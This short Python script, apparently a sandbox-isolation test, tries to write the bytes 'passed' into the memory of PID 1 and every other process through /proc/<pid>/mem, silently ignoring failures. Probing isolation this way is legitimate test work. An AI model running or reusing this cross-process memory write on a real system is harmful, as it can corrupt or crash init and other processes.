"""Writes into the memory of other processes."""

import os
for pid in ["1", *os.listdir("/proc")]:
    if not pid.isdigit() or int(pid) in (os.getpid(), os.getppid()):
        continue
    try:
        with open(f"/proc/{pid}/mem", "r+b") as file:
            file.seek(4096)
            file.write(b"passed")
    except (OSError, ValueError):
        pass
